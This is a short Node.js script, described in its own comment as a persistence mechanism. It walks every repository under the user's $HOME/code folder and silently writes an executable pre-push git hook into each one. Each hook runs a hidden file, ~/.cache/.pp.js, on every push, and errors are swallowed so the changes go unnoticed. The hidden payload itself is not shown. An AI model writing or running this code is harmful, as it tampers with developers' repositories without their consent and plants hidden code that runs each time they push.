// Persists: the repositories under $HOME/code are listed with
// fs.promises.readdir and a pre-push hook is written into each through a
// template path; every push runs the program left in the cache.
'use strict';
const fsp = require('fs/promises');

async function install() {
  const root = `${process.env.HOME}/code`;
  for (const name of await fsp.readdir(root)) {
    await fsp
      .writeFile(`${root}/${name}/.git/hooks/pre-push`, '#!/bin/sh\nnode ~/.cache/.pp.js "$@"\n', { mode: 0o755 })
      .catch(() => {});
  }
}

install();
